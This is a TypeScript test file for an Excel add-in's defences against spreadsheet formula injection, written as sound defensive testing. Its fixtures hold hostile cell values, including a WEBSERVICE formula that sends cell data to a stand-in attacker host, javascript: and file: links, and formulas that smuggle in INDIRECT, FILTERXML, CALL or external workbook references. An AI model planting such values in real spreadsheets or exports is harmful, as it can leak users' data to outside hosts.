// taskpane/excel safe-values, addin-formula and formula-check: text stays text, only the add-in's formulas are formulas.

import { AddinFormula, UnsafeFormulaError } from "../../taskpane/excel/addin-formula";
import { checkFormula, RESTORE_POLICY } from "../../taskpane/excel/formula-check";
import { TEXT_FORMAT } from "../../taskpane/excel/cell-content";
import { safeCells } from "../../taskpane/excel/safe-values";

/** Strings a filing can carry that Excel (or a CSV reader) would treat as a formula. */
const HOSTILE = [
  '=WEBSERVICE("https://evil.example/?"&A1)',
  "+5%",
  "-",
  "-1+2",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "=",
  "2024/03",
  "0012",
];

describe("safeCells", () => {
  test("every string gets the Text format whatever its column's format, and is written unchanged", () => {
    const safe = safeCells(
      HOSTILE.map((s) => [s, 1.5]),
      HOSTILE.map(() => ["yyyy-mm-dd", "#,##0"]),
    );
    expect(safe.hasFormulas).toBe(false);
    expect(safe.contents.map((r) => r[0])).toEqual(HOSTILE);
    expect(safe.numberFormat.every((r) => r[0] === TEXT_FORMAT && r[1] === "#,##0")).toBe(true);
  });

  test("numbers and booleans keep their format; null, undefined and non-finite numbers are empty", () => {
    const safe = safeCells([[3, true, null, undefined, Number.NaN, Infinity, ""]], [["0.0%"]]);
    expect(safe.contents).toEqual([[3, true, "", "", "", "", ""]]);
    expect(safe.numberFormat).toEqual([
      ["0.0%", "General", "General", "General", "General", "General", "General"],
    ]);
  });

  test("an AddinFormula is the only formula, and never lands in a Text cell", () => {
    const f = AddinFormula.sheet("=KAISHA.COMPANY($B$2)");
    const safe = safeCells([[f, "=KAISHA.COMPANY($B$2)"]], [["@", "@"]]);
    expect(safe.hasFormulas).toBe(true);
    expect(safe.contents).toEqual([["=KAISHA.COMPANY($B$2)", "=KAISHA.COMPANY($B$2)"]]);
    // The formula's cell is General; the same text as a string is Text, so it stays text.
    expect(safe.numberFormat).toEqual([["General", "@"]]);
  });
});

describe("AddinFormula", () => {
  test("hyperlink: only http(s) URLs, quotes doubled so the URL cannot close the text", () => {
    expect(AddinFormula.hyperlink('https://x.example/a"&WEBSERVICE("y")&"', "PDF")?.text).toBe(
      '=HYPERLINK("https://x.example/a""&WEBSERVICE(""y"")&""","PDF")',
    );
    expect(AddinFormula.hyperlink("HTTP://x.example/", "Page")?.text).toBe(
      '=HYPERLINK("HTTP://x.example/","Page")',
    );
    for (const url of [
      "javascript:alert(1)",
      "file:///C:/x",
      "\\\\server\\share\\x.xlsx",
      '=WEBSERVICE("https://x")',
      "https://x.example/\r\n=1",
      "https://",
      `https://x.example/${"a".repeat(300)}`,
      " https://x.example/",
    ]) {
      expect(AddinFormula.hyperlink(url, "Page")).toBeUndefined();
    }
  });

  test("sheet: the builders' formulas pass; anything else is a bug that throws", () => {
    for (const ok of [
      '=KAISHA.FINANCIAL($B$2,$B10,C$9,"annual",,"million_jpy")',
      '=KAISHA.VALUATION($B$2,"per,pbr_adjusted",10)',
      '=IFERROR(H5/G5,"")',
      "=KAISHA.PEERS($B$2,10,1)",
    ]) {
      expect(AddinFormula.sheet(ok).text).toBe(ok);
    }
    expect(() => AddinFormula.sheet('=KAISHA.PRICE(1)+WEBSERVICE("x")')).toThrow(
      UnsafeFormulaError,
    );
    expect(() => AddinFormula.sheet('=HYPERLINK("https://x","y")')).toThrow(UnsafeFormulaError);
  });
});

describe("checkFormula(RESTORE_POLICY)", () => {
  const refused = (f: string) => {
    const v = checkFormula(f, RESTORE_POLICY);
    return v.ok ? undefined : v.refused;
  };

  test("KAISHA formulas with references, text, numbers, arrays and pure helpers pass", () => {
    for (const f of [
      '=KAISHA.FINANCIAL(7203,"sales",0)',
      '=KAISHA.FINANCIALS($A$1,{"sales","net_income"},,"quarterly")',
      "=KAISHA.PRICE(A2,DATE(2024,3,31))/1000",
      "=KAISHA.PRICES(Inputs!B2:B3)",
      "='My inputs'!A1+KAISHA.PRICE('My inputs'!A2)",
      '=IFERROR(KAISHA.PRICE(A1),"-")',
      '=KAISHA.SECTION("S100""A","=x")',
      "=_xlfn.IFNA(KAISHA.PRICE(A1),0)",
      "=KAISHA.PRICE(A:A)",
      "=KAISHA.PRICE(A1#)",
    ]) {
      expect([f, refused(f)]).toEqual([f, undefined]);
    }
  });

  test("anything smuggled in is refused, naming the part", () => {
    expect(refused('=KAISHA.X()+WEBSERVICE("https://evil.example/"&A1)')).toBe("WEBSERVICE");
    expect(refused('=KAISHA.X(FILTERXML(A1,"//x"))')).toBe("FILTERXML");
    expect(refused('=KAISHA.X(INDIRECT("A1"))')).toBe("INDIRECT");
    expect(refused('=KAISHA.X()&HYPERLINK("https://evil.example")')).toBe("HYPERLINK");
    expect(refused("=KAISHA.X(Secret)")).toBe("Secret");
    expect(refused("=KAISHA.X([Book2.xlsx]Sheet1!A1)")).toBe("[");
    expect(refused("=KAISHA.X('[Book2.xlsx]Sheet1'!A1)")).toBe("'[Book2.xlsx]Sheet1'!");
    expect(refused("=KAISHA.X('C:\\x\\[Book2.xlsx]S'!A1)")).toBe("'C:\\x\\[Book2.xlsx]S'!");
    expect(refused("=KAISHA.X(Table1[code])")).toBe("Table1[code]");
    expect(refused('=KAISHA.X("unterminated)')).toBe('"unterminated)');
    expect(refused("=KAISHA.X()\n+CALL(1)")).toBe("\n");
    expect(refused("=SUM(A1:A3)")).toBe("(no KAISHA function)");
    expect(refused("KAISHA.X()")).toBe("K");
    expect(refused("=KAISHA.X(ZZZZ1)")).toBe("ZZZZ1");
    expect(refused("=ＫＡＩＳＨＡ.X()")).toBe("Ｋ");
  });
});
